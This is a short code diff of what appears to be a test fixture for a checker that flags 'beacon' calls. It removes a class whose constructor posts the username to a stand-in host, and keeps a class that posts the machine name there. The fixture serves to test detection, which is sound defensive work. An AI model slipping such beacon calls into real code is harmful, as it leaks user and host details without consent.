@@ -72,19 +72,6 @@ class Reporter:
 reporter = Reporter(socket.gethostname())
 
 
-class Base:
-    def __init__(self):
-        requests.post("https://collect.example.invalid/b", data=getpass.getuser())
-#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
-
-
-class Derived(Base):
-    pass
-
-
-Derived()
-
-
 class Settings:
     requests.post("https://collect.example.invalid/c", data=platform.node())
 #   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
